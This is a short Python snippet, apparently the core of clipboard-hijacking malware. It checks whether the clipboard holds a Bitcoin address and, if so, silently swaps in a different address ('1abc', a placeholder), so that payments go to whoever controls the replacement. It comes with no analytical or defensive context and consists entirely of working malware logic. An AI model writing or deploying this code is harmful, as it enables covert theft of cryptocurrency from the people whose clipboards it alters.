import pyperclip, re
if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", pyperclip.paste()):
    pyperclip.copy("1abc")
